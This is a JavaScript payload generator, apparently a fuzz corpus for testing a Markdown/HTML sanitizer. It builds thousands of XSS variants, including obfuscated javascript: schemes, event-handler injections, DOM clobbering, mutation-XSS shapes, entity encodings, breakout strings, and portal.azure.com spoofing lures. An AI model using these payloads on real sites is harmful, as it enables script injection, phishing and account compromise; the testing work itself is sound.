// Hostile payloads, each `{kind, text}`. All but those of a folder of gathered ones are made here, from matrices.

import { existsSync, readFileSync, readdirSync } from "node:fs";

const SCRIPT = "alert(1)";

/** Every kind of generated payload; `handlers` are the names of event handlers that the browser has. */
export function* generated(handlers) {
  yield* of("scheme", schemes());
  yield* of("handler", eventHandlers(handlers));
  yield* of("clobber", clobbering());
  yield* of("mutation", mutations());
  yield* of("element", elements());
  yield* of("link", links());
  yield* of("image", images());
  yield* of("character", characters());
  yield* of("entity", entities());
  yield* of("breakout", breakouts());
  yield* of("host", hosts());
}

/** The payloads of JSON files in a folder: lists of objects that have a `payload`. */
export function* gathered(folder) {
  if (!existsSync(folder)) return;
  for (const file of readdirSync(folder).filter((name) => name.endsWith(".json")).sort()) {
    for (const entry of JSON.parse(readFileSync(`${folder}/${file}`, "utf8"))) {
      const text = entry.payload ?? entry.markdown;
      if (typeof text === "string") yield { kind: file.replace(".json", ""), text };
    }
  }
}

function* of(kind, texts) {
  for (const text of new Set(texts)) yield { kind, text };
}

const SCHEMES = [
  ["javascript", SCRIPT],
  ["vbscript", "msgbox(1)"],
  ["data", `text/html,<script>${SCRIPT}</script>`],
  ["data", "text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="],
  ["data", `image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${SCRIPT}'/>`],
  ["file", "///etc/passwd"],
  ["blob", "https://fabrikam.invalid/0"],
  ["filesystem", "https://fabrikam.invalid/temporary/a"],
  ["view-source", "https://fabrikam.invalid/"],
  ["about", "blank"],
  ["ftp", "//fabrikam.invalid/a"],
  ["ws", "//fabrikam.invalid/a"],
  ["tel", "+15550100"],
  ["sms", "+15550100"],
  ["intent", "//scan/#Intent;end"],
  ["ms-settings", "privacy"],
  ["ms-msdt", "/id PCWDiagnostic"],
  ["search-ms", "query=a"],
  ["vscode", "//file/etc/passwd"],
  ["chrome", "//settings"],
  ["jar", "https://fabrikam.invalid/a!/b"],
  ["mhtml", "https://fabrikam.invalid/a!b"],
  ["livescript", SCRIPT],
  ["mocha", SCRIPT],
  ["javascript", `//fabrikam.invalid/%0a${SCRIPT}`],
  ["javascript", `/*https://fabrikam.invalid/*/${SCRIPT}`],
  ["feed", `javascript:${SCRIPT}`],
  ["https", `javascript:${SCRIPT}`],
  ["mailto", `"onclick="${SCRIPT}`],
  ["button-link", `javascript:${SCRIPT}`],
  ["data-blade", `javascript:${SCRIPT}`],
  ["button-data-blade", `A.B.id.$x;data-blade-uri:javascript:${SCRIPT}`],
];

const DISGUISES = [
  (s, r) => `${s}:${r}`,
  (s, r) => `${s.toUpperCase()}:${r}`,
  (s, r) => `${alternate(s)}:${r}`,
  (s, r) => ` ${s}:${r}`,
  (s, r) => `\t${s}:${r}`,
  (s, r) => `\u0001${s}:${r}`,
  (s, r) => `\u001f${s}:${r}`,
  (s, r) => `\u00a0${s}:${r}`,
  (s, r) => `\u3000${s}:${r}`,
  (s, r) => `\ufeff${s}:${r}`,
  (s, r) => `\u200b${s}:${r}`,
  (s, r) => `${split(s, "\t")}:${r}`,
  (s, r) => `${split(s, "\n")}:${r}`,
  (s, r) => `${split(s, "\r")}:${r}`,
  (s, r) => `${split(s, "\0")}:${r}`,
  (s, r) => `${split(s, "\v")}:${r}`,
  (s, r) => `${split(s, "\u200b")}:${r}`,
  (s, r) => `${split(s, "\u00ad")}:${r}`,
  (s, r) => `${split(s, "\u202e")}:${r}`,
  (s, r) => `${split(s, "&Tab;")}:${r}`,
  (s, r) => `${split(s, "&NewLine;")}:${r}`,
  (s, r) => `${split(s, "&#9;")}:${r}`,
  (s, r) => `${split(s, "&#x0A;")}:${r}`,
  (s, r) => `${split(s, "&#0;")}:${r}`,
  (s, r) => `${split(s, "&shy;")}:${r}`,
  (s, r) => `${split(s, "&ZeroWidthSpace;")}:${r}`,
  (s, r) => `${split(s, "%09")}:${r}`,
  (s, r) => `${split(s, "\\")}:${r}`,
  (s, r) => `${split(s, "<!---->")}:${r}`,
  (s, r) => `${split(s, "<!--$a-->b<!--/$a-->")}:${r}`,
  (s, r) => `${s}\t:${r}`,
  (s, r) => `${s} :${r}`,
  (s, r) => `${s}&colon;${r}`,
  (s, r) => `${s}&#58;${r}`,
  (s, r) => `${s}&#x3a;${r}`,
  (s, r) => `${s}&#x3A${r}`,
  (s, r) => `${s}%3A${r}`,
  (s, r) => `${s}\\:${r}`,
  (s, r) => `${s}\uff1a${r}`,
  (s, r) => `${each(s, (c) => `&#${c};`)}:${r}`,
  (s, r) => `${each(s, (c) => `&#x${c.toString(16)};`)}:${r}`,
  (s, r) => `${each(s, (c) => `&#${String(c).padStart(7, "0")}`)}:${r}`,
  (s, r) => `${each(s, (c) => `%${c.toString(16)}`)}:${r}`,
  (s, r) => `${each(s, (c) => `\\u${c.toString(16).padStart(4, "0")}`)}:${r}`,
  (s, r) => `${each(s, (c) => String.fromCharCode(c + 0xfee0))}:${r}`,
  (s, r) => `&#x26;#${s.charCodeAt(0)};${s.slice(1)}:${r}`,
  (s, r) => `//${s}:${r}`,
  (s, r) => `\\\\${s}:${r}`,
  (s, r) => `url:${s}:${r}`,
  (s, r) => `./${s}:${r}`,
  (s, r) => `#${s}:${r}`,
  (s, r) => `"${s}:${r}`,
  (s, r) => `'${s}:${r}`,
];

function* schemes() {
  for (const [scheme, rest] of SCHEMES) for (const disguise of DISGUISES) yield disguise(scheme, rest);
}

const alternate = (text) => [...text].map((c, index) => (index % 2 ? c.toUpperCase() : c)).join("");
const split = (text, by) => text.slice(0, 4) + by + text.slice(4);
const each = (text, write) => [...text].map((c) => write(c.charCodeAt(0))).join("");

const HANDLER_SHAPES = [
  (on) => `<img src=x ${on}=${SCRIPT}>`,
  (on) => `<p ${on}="${SCRIPT}" tabindex=0>a</p>`,
  (on) => `<b/${on}=${SCRIPT}>a</b>`,
  (on) => `<details open\n${on}='${SCRIPT}'><summary>a</summary>b</details>`,
  (on) => `<a href="https://fabrikam.invalid/"${on}="${SCRIPT}">a</a>`,
  (on) => `<table><tr><td ${on.toUpperCase()}=${SCRIPT}>a</td></tr></table>`,
  (on) => `<ul style="animation:a 1s" ${on}=${SCRIPT}><li ${on}=${SCRIPT}>a</ul>`,
  (on) => `[a](https://fabrikam.invalid/ "\\" ${on}=\\"${SCRIPT}")`,
  (on) => `[a](https://fabrikam.invalid/"${on}="${SCRIPT})`,
  (on) => `![a" ${on}="${SCRIPT}](https://fabrikam.invalid/a.png)`,
  (on) => `" ${on}="${SCRIPT}" x="`,
  (on) => `' ${on}='${SCRIPT}' x='`,
];

function* eventHandlers(handlers) {
  for (const name of handlers) for (const shape of HANDLER_SHAPES) yield shape(name);
}

const CLOBBERED = [
  "attributes", "body", "childNodes", "children", "classList", "cookie", "createElement", "currentScript",
  "defaultView", "documentElement", "domain", "fetch", "firstChild", "forms", "getElementById", "head", "history",
  "href", "images", "innerHTML", "links", "location", "name", "nodeName", "onclick", "ownerDocument", "parentNode",
  "querySelector", "referrer", "removeChild", "scripts", "self", "setAttribute", "style", "submit", "tagName",
  "textContent", "title", "top", "write", "__proto__", "constructor", "toString", "hasOwnProperty",
];

const CLOBBER_SHAPES = [
  (x) => `<a id=${x}>a</a>`,
  (x) => `<a id=${x}></a><a id=${x} name=src href="data:,${SCRIPT}">a</a>`,
  (x) => `<a name="${x}" href="https://fabrikam.invalid/">a</a>`,
  (x) => `<img name=${x} src="https://fabrikam.invalid/a.png" alt=a>`,
  (x) => `<h2 id="${x}">a</h2>`,
  (x) => `<form name=${x}><input name=${x}></form>`,
  (x) => `<iframe name=${x} srcdoc="<a id=${x}>"></iframe>`,
  (x) => `<object id=${x} name=${x}></object>`,
  (x) => `## ${x}`,
  (x) => `## ${x} {#${x} name=${x}}`,
  (x) => `<div\nid=${x}>a</div>`,
];

function* clobbering() {
  for (const name of CLOBBERED) for (const shape of CLOBBER_SHAPES) yield shape(name);
}

const IMG = `<img src=x onerror=${SCRIPT}>`;
const MUTATION_SHAPES = [
  (p) => `<svg></p><style><a id="</style>${p}">`,
  (p) => `<math><mtext><table><mglyph><style><!--</style>${p}-->`,
  (p) => `<form><math><mtext></form><form><mglyph><style></math>${p}`,
  (p) => `<noscript><p title="</noscript>${p}">`,
  (p) => `<title><a title="</title>${p}">`,
  (p) => `<textarea><a title="</textarea>${p}">`,
  (p) => `<xmp><a title="</xmp>${p}">`,
  (p) => `<iframe><a title="</iframe>${p}">`,
  (p) => `<noembed><a title="</noembed>${p}">`,
  (p) => `<noframes><a title="</noframes>${p}">`,
  (p) => `<template><s><template>${p}</template></s></template>`,
  (p) => `<select><option><style></option></select>${p}</style>`,
  (p) => `<table><td><svg><title><style></table>${p}</style>`,
  (p) => `<svg><![CDATA[><${p.slice(1)}]]>`,
  (p) => `<math><annotation-xml encoding="text/html">${p}</annotation-xml>`,
  (p) => `<svg><foreignobject><style>*{}</style>${p}</foreignobject></svg>`,
  (p) => `<svg><desc><style><a title="</style>${p}">`,
  (p) => `<!-->${p}-->`,
  (p) => `<!--->${p}-->`,
  (p) => `<!--a--!>${p}-->`,
  (p) => `<!-- -- >${p}-->`,
  (p) => `<!--<!-->${p}-->-->`,
  (p) => `<!--$a-->${p}<!--/$a-->`,
  (p) => `<!--issueDescription-->${p}<!--/issueDescription-->`,
  (p) => `<!--$a--!>${p}<!--/$a-->`,
  (p) => `<!${p}>`,
  (p) => `<?${p}?>`,
  (p) => `<?xml ?>${p}`,
  (p) => `</ ${p}>`,
  (p) => `<![if 1]>${p}<![endif]>`,
  (p) => `<p a="\`" b="\`>${p}">`,
  (p) => `<a href="\`\`${p}\`\`">a</a>`,
  (p) => `<a title='a"${p}'>b</a>`,
  (p) => `<a title=a\`${p}>b</a>`,
  (p) => `<b <${p.slice(1)}`,
  (p) => `<<${p.slice(1)}`,
  (p) => `<b\u0000${p}`,
  (p) => `<${p.slice(1, 3)}\u0000${p.slice(3)}`,
  (p) => `<a><table><a>${p}</table></a>`,
  (p) => `<p><table><p>${p}</table>`,
  (p) => `<b><p></b>${p}</p>`,
  (p) => `<li><ul><li></ul></li>${p}`,
  (p) => `<pre><code></pre>${p}</code>`,
  (p) => `<pre>\n${p}</pre>`,
  (p) => `<details><summary><details>${p}</summary></details>`,
  (p) => `<dl><dt><dl>${p}</dt></dl>`,
  (p) => `<insight><symptomId>${p}</symptomId></insight>`,
  (p) => `<metric><name>${p}</name><title>${p}</title></metric>`,
  (p) => `<video><src>https://fabrikam.invalid/${p}</src></video>`,
  (p) => `\`\`\`html ${p}\n${p}\n\`\`\`\n${p}`,
  (p) => `    ${p}\n\n\`${p}\``,
  (p) => `\`a${p}`,
  (p) => `a | b\n--|--\n\`${p} | ${p}`,
];

const MUTATION_LOADS = [
  IMG,
  `<script>${SCRIPT}</script>`,
  `<svg onload=${SCRIPT}></svg>`,
  `<iframe srcdoc="<script>parent.${SCRIPT}</script>"></iframe>`,
  `<a href="javascript:${SCRIPT}">a</a>`,
];

function* mutations() {
  for (const load of MUTATION_LOADS) for (const shape of MUTATION_SHAPES) yield shape(load);
}

const ELEMENTS = [
  "a", "abbr", "animate", "annotation-xml", "applet", "area", "article", "aside", "audio", "b", "base", "basefont",
  "bgsound", "blink", "blockquote", "body", "br", "button", "canvas", "caption", "center", "code", "colgroup",
  "custom-element", "datalist", "dd", "details", "dialog", "div", "dl", "dt", "embed", "fieldset", "font",
  "foreignobject", "form", "frame", "frameset", "h1", "head", "hr", "html", "iframe", "image", "img", "input", "ins",
  "isindex", "kbd", "keygen", "label", "layer", "legend", "li", "link", "listing", "main", "map", "marquee", "math",
  "menu", "menuitem", "meta", "meter", "nav", "noembed", "noframes", "noscript", "object", "ol", "option", "output",
  "p", "param", "picture", "plaintext", "portal", "pre", "progress", "q", "rp", "rt", "ruby", "s", "samp", "script",
  "section", "select", "set", "slot", "small", "source", "span", "strike", "strong", "style", "summary", "sup", "svg",
  "table", "tbody", "td", "template", "textarea", "tfoot", "th", "thead", "time", "title", "tr", "track", "tt", "u",
  "ul", "use", "var", "video", "wbr", "xml", "xmp",
];

const ELEMENT_SHAPES = [
  (e) => `<${e}>${SCRIPT}</${e}>`,
  (e) => `<${e} src="javascript:${SCRIPT}" href="javascript:${SCRIPT}" data="javascript:${SCRIPT}">a</${e}>`,
  (e) => `<${e} src=//fabrikam.invalid/a href=//fabrikam.invalid/a srcdoc="<script>${SCRIPT}</script>">`,
  (e) => `<${e} style="background:url(https://fabrikam.invalid/a);position:fixed;inset:0" autofocus contenteditable/>`,
  (e) => `<${e} formaction="javascript:${SCRIPT}" action="javascript:${SCRIPT}" type=submit value=a>`,
  (e) => `<${e} http-equiv=refresh content="0;url=javascript:${SCRIPT}" rel=stylesheet>a`,
  (e) => `<${e.toUpperCase()}\n\tonfocus=${SCRIPT} autofocus tabindex=1 id=a name=a ping=https://fabrikam.invalid/a>`,
  (e) => `a <${e} background=https://fabrikam.invalid/a poster=https://fabrikam.invalid/a xlink:href=javascript:${SCRIPT}> b`,
];

function* elements() {
  for (const name of ELEMENTS) for (const shape of ELEMENT_SHAPES) yield shape(name);
}

function* links() {
  const js = `javascript:${SCRIPT}`;
  const at = "https://fabrikam.invalid/";
  yield* [
    `[a [b](${js}) c](${at})`, `[a [b](${at}) c](${js})`, `[![a](${js})](${js})`, `![[a](${js})](${js})`,
    `[<a href="${js}">a</a>](${at})`, `<a href="${at}">[a](${js})</a>`, `<a href="${js}">[a](${at})</a>`,
    `<a href="${at}"><a href="${js}">a</a></a>`, `[${js}](${at})`, `[${at}](${js})`, `<${js}>`, `<${at}"onclick=${SCRIPT}>`,
    `<${at}>\n<${js}>`, `<mailto:a@fabrikam.invalid?body="${IMG}>`, `<a@fabrikam.invalid"onclick=${SCRIPT}>`,
    `[a]\n\n[a]: ${js}`, `[a][b]\n\n[b]: <${js}> "t"`, `[a]\n\n[A]: ${js} '" onclick="${SCRIPT}'`,
    `[a]\n\n[a]:\n  ${js}\n  (t)`, `[a][]\n\n[a]: ${at}\n[a]: ${js}`, `[${IMG}]\n\n[${IMG}]: ${js}`,
    `[a](<${js}>)`, `[a](<${at}\n"onclick=${SCRIPT}>)`, `[a](${at} '" onclick=${SCRIPT} "')`, `[a](${at} (" onclick=${SCRIPT} "))`,
    `[a](${at}\\"onclick=${SCRIPT})`, `[a](${at}&quot;onclick=${SCRIPT})`, `[a](${at}%22onclick=${SCRIPT})`,
    `[a](${at}'onclick='${SCRIPT})`, `[a](${at}\`onclick=\`${SCRIPT})`, `[a](//fabrikam.invalid/)`, `[a](\\\\fabrikam.invalid\\a)`,
    `[a](/\\fabrikam.invalid)`, `[a](https:fabrikam.invalid)`, `[a](https:/fabrikam.invalid)`, `[a](https:\\\\fabrikam.invalid)`,
    `[a](https:///fabrikam.invalid)`, `[a](https://user:pass@fabrikam.invalid\\@b)`, `[a](https://fabrikam.invalid\u3002b/)`,
    `[a](https://\u202emoc.invalid/)`, `[a](https://fabrikam.invalid:99999/)`, `[a](https://[::1]/)`, `[a](https://%6a/)`,
    `[a](?${js})`, `[a](#${js})`, `[a](.)`, `[a]()`, `[a](<>)`, `www.fabrikam.invalid/"onclick="${SCRIPT}`,
    `www.fabrikam.invalid/<script>${SCRIPT}</script>`, `${at}<b>`, `${at}'"><script>${SCRIPT}</script>`, `${js}`, `http://${js}`,
    `a@fabrikam.invalid"onclick=${SCRIPT}`, `mailto:a@fabrikam.invalid"onclick=${SCRIPT}`, `[a](mailto:${IMG})`,
    `[a](data-blade:A.B.id."onclick="${SCRIPT})`, `[a](data-blade:A"onclick="${SCRIPT}.B)`, `[a](button-data-blade:A.B.<script>.${SCRIPT})`,
    `[a](data-blade:A.B.id.$v"onclick="${SCRIPT})`, `[a](data-blade:A.B.id.$v;data-blade-uri:${js})`,
    `[a](data-blade:A.B.id.$v;data-blade-uri:{$domain}"onclick="${SCRIPT})`, `[a](data-blade:A.B;data-blade-uri:java{$v}script:${SCRIPT})`,
    `[a](button-link:${js})`, `[a](button-link:button-link:${js})`, `[a](button-link:data:text/html,${IMG})`, `[a](button-link: ${js})`,
    `[a](<!--$v-->${js}<!--/$v-->)`, `[a](java<!--$v-->script<!--/$v-->:${SCRIPT})`, `[a](<!--$v-->java<!--/$v-->script:${SCRIPT})`,
    `[a](${at}<!--$v-->"onclick="${SCRIPT}<!--/$v-->)`, `[<!--$v-->[a](${js})<!--/$v-->](${at})`, `<a href='${at}' href='${js}'>a</a>`,
    `<a href = ${js} >a</a>`, `<a href="${js}" target=_blank rel=opener download>a</a>`, `<a\nhref\n=\n"${js}"\n>a</a>`,
    `<a/href="${js}">a</a>`, `<a href=${js}`, `<a href="${js}`, `<a href="&#106;avascript:${SCRIPT}">a</a>`, `<a href="jav&Tab;ascript:${SCRIPT}">a</a>`,
    `:::Section ${IMG}:::`, `:::Section [a](${js}):::`, `> [!NOTE] ${IMG}`, `> [!${IMG}]`, `- [ ] ${IMG}`, `[^1]\n\n[^1]: ${IMG}`,
  ];
}

function* images() {
  const js = `javascript:${SCRIPT}`;
  const at = "https://fabrikam.invalid/a.png";
  yield* [
    `![a](${js})`, `![a](data:image/svg+xml,<svg onload=${SCRIPT}>)`, `![a](data:image/png;base64,AAAA)`, `![a](http://fabrikam.invalid/a.png)`,
    `![a](//fabrikam.invalid/a.png)`, `![a](\\\\fabrikam.invalid\\a.png)`, `![a](file:///a.png)`, `![a](x)`, `![a](x"onerror="${SCRIPT})`,
    `![a](${at}"onload="${SCRIPT})`, `![a](${at}'onload='${SCRIPT})`, `![a](${at} "b\\" onload=\\"${SCRIPT}")`, `!["onload="${SCRIPT}](${at})`,
    `!['onload='${SCRIPT}](${at})`, `![${IMG}](${at})`, `![${IMG}](${js})`, `![[a](${js})](${at})`, `![<a href="${js}">a</a>](${at})`,
    `![\`"onload="${SCRIPT}\`](${at})`, `![a\n"onload="${SCRIPT}](${at})`, `![&quot;onload=&quot;${SCRIPT}](${at})`, `![a][b]\n\n[b]: ${js}`,
    `![b]\n\n[b]: ${at} '"onload="${SCRIPT}'`, `<img src="${js}">`, `<img src=${at} onload=${SCRIPT}>`, `<img src="${at}" srcset="x 1x, ${at} 2x" alt=a>`,
    `<img src='${at}' alt='"onload="${SCRIPT}'>`, `<img alt="<script>${SCRIPT}</script>" src=${at}>`, `<img src="${at}" usemap="#a" ismap longdesc=${js} lowsrc=${js} dynsrc=${js}>`,
    `<img """><script>${SCRIPT}</script>">`, `<img src=x:x onerror=${SCRIPT}>`, `<image src=x onerror=${SCRIPT}>`, `<img src=\`x\` onerror=\`${SCRIPT}\`>`,
    `<img/src/onerror=${SCRIPT}>`, `<img src=1 href=1 onerror="${js}">`, `![a](https://fabrikam.invalid/<!--$v-->"onload="${SCRIPT}<!--/$v-->)`,
    `![<!--$v-->"onload="${SCRIPT}<!--/$v-->](${at})`, `![a](<!--$v-->${js}<!--/$v-->)`,
  ];
}

const LURES = [
  "portal.azure.com@fabrikam.invalid", "portal.azure.com:443@fabrikam.invalid", "@fabrikam.invalid", "a@b@fabrikam.invalid", "portal.azure.com%40fabrikam.invalid",
  "portal.azure.com\\@fabrikam.invalid", "portal.azure.com\\.fabrikam.invalid", "portal.azure.com/@fabrikam.invalid", "portal.azure.com?@fabrikam.invalid",
  "portal.azure.com#@fabrikam.invalid", ".fabrikam.invalid", ":80", ":80@fabrikam.invalid", ":", "%2ffabrikam.invalid", "%5cfabrikam.invalid",
  "portal\u3002azure\uff0ecom", "p\u043ertal.azure.com", "\u202emoc.invalid", "..", ".", "../..", "%2e%2e", "%2e%2e/", ".%2e", "..%2f", "..\\", "/..//fabrikam.invalid",
  "//fabrikam.invalid", "/\\fabrikam.invalid", "\\/fabrikam.invalid", "\t//fabrikam.invalid", "/\n/fabrikam.invalid", "/%09/fabrikam.invalid", "/./\\fabrikam.invalid",
  "2e", "40", "a@fabrikam.invalid,b", "?bcc=a@fabrikam.invalid", "\r\nBcc: a@fabrikam.invalid", "%0d%0aBcc:a@fabrikam.invalid", ";data-blade-uri:https://fabrikam.invalid/",
  "{$domain}", "{$value}", "$value", "s", "https", "https:", "javascript",
];

const LURE_SHAPES = [
  (l) => l,
  (l) => `https://${l}`,
  (l) => `https://${l}/a.png`,
  (l) => `mailto:${l}`,
  (l) => `button-link:https://${l}/`,
  (l) => `data-blade:A.B.id.$no;data-blade-uri:https://${l}/`,
  (l) => `data-blade:A.B.id.$no;data-blade-uri:{$domain}${l}`,
  (l) => `[https://portal.azure.com](https://${l}/)`,
  (l) => `![a](https://${l}/a.png)`,
  (l) => `[a]\n\n[a]: https://${l}/`,
  (l) => `<a href="https://${l}/">a</a><img src="https://${l}/a.png" alt=a>`,
];

function* hosts() {
  for (const lure of LURES) for (const shape of LURE_SHAPES) yield shape(lure);
}

function* characters() {
  const codes = [];
  for (let code = 0; code <= 0x20; code++) codes.push(code);
  for (let code = 0x7f; code <= 0xa0; code++) codes.push(code);
  codes.push(0xad, 0x61c, 0x180e, 0x200b, 0x200c, 0x200d, 0x200e, 0x200f, 0x2028, 0x2029, 0x202a, 0x202b, 0x202c, 0x202d);
  codes.push(0x202e, 0x2060, 0x2066, 0x2067, 0x2068, 0x2069, 0x3000, 0xe000, 0xf8ff, 0xfdd0, 0xfeff, 0xfffd, 0xfffe, 0xffff);
  codes.push(0xff02, 0xff07, 0xff1c, 0xff1e, 0xfe64, 0xfe65, 0x2039, 0x203a, 0x2329, 0x2983, 0x2984, 0x1f600, 0xe0001, 0x10ffff);
  for (const code of codes) {
    const c = String.fromCodePoint(code);
    yield `a${c}b`;
    yield `[a](java${c}script:${SCRIPT})`;
    yield `<${c}script>${SCRIPT}</script${c}>`;
    yield `<img${c}src=x${c}onerror=${c}${SCRIPT}>`;
    yield `${c}<a href="${c}javascript:${SCRIPT}">a</a>${c}`;
    yield `[a](https://fabrikam.invalid/${c}"${c}onclick=${SCRIPT})`;
    yield `&#${code};&#x${code.toString(16)};[a](&#${code};javascript:${SCRIPT})`;
  }
}

function* entities() {
  const names = { "<": "lt", ">": "gt", '"': "quot", "'": "apos", "&": "amp", ":": "colon", "(": "lpar", "=": "equals" };
  const written = (c) => [
    `&${names[c]};`, `&${names[c].toUpperCase()};`, `&${names[c]}`, `&#${c.charCodeAt(0)};`, `&#x${c.charCodeAt(0).toString(16)};`,
    `&#X${c.charCodeAt(0).toString(16).toUpperCase()};`, `&#0000${c.charCodeAt(0)};`, `&#${c.charCodeAt(0)}`, `&amp;${names[c]};`,
    `&amp;amp;${names[c]};`, `%${c.charCodeAt(0).toString(16)}`, `\\x${c.charCodeAt(0).toString(16)}`, `\\${c}`,
  ];
  for (let form = 0; form < 13; form++) {
    const write = (text) => text.replace(/[<>"'&:(=]/g, (c) => written(c)[form]);
    yield write(IMG);
    yield write(`<script>${SCRIPT}</script>`);
    yield `<a href="${write(`javascript:${SCRIPT}`)}">a</a>`;
    yield `[a](${write(`javascript:${SCRIPT}`)})`;
    yield `[a](https://fabrikam.invalid/${write(`" onclick="${SCRIPT}`)})`;
    yield `[a](https://fabrikam.invalid/ "${write(`" onclick="${SCRIPT}`)}")`;
    yield `![${write(`" onload="${SCRIPT}`)}](https://fabrikam.invalid/a.png)`;
    yield `\`${write(IMG)}\``;
    yield write(`</code></pre>${IMG}`);
    yield `\`\`\`${write(`" onclick="${SCRIPT}`)}\na\n\`\`\``;
  }
}

function* breakouts() {
  const closers = [
    `"`, `'`, "`", `">`, `'>`, "`>", ` `, `\n`, `\n\n`, `-->`, `--!>`, `]]>`, `?>`, `*/`, `</a>`, `</p>`, `</td></tr></table>`,
    `</code></pre>`, `</script>`, `</style>`, `</title>`, `</textarea>`, `</main></body></html>`, `)`, `](`, `](x)`, `|`, `\``, "\n```\n", "\n~~~\n",
    `<!--/$value-->`, `<!--$value-->`, `<!--/issueDescription-->`, `/>`, `&quot;>`, `\\">`, `{{`, `\${`, `$value`, `{$value}`, `%22%3E`, `\u0000">`,
  ];
  for (const closer of closers) {
    yield closer;
    yield `${closer}${IMG}`;
    yield `${closer}<script>${SCRIPT}</script>`;
    yield `${closer} onmouseover=${SCRIPT} style=position:fixed x=`;
    yield `${closer}[a](javascript:${SCRIPT})`;
  }
}
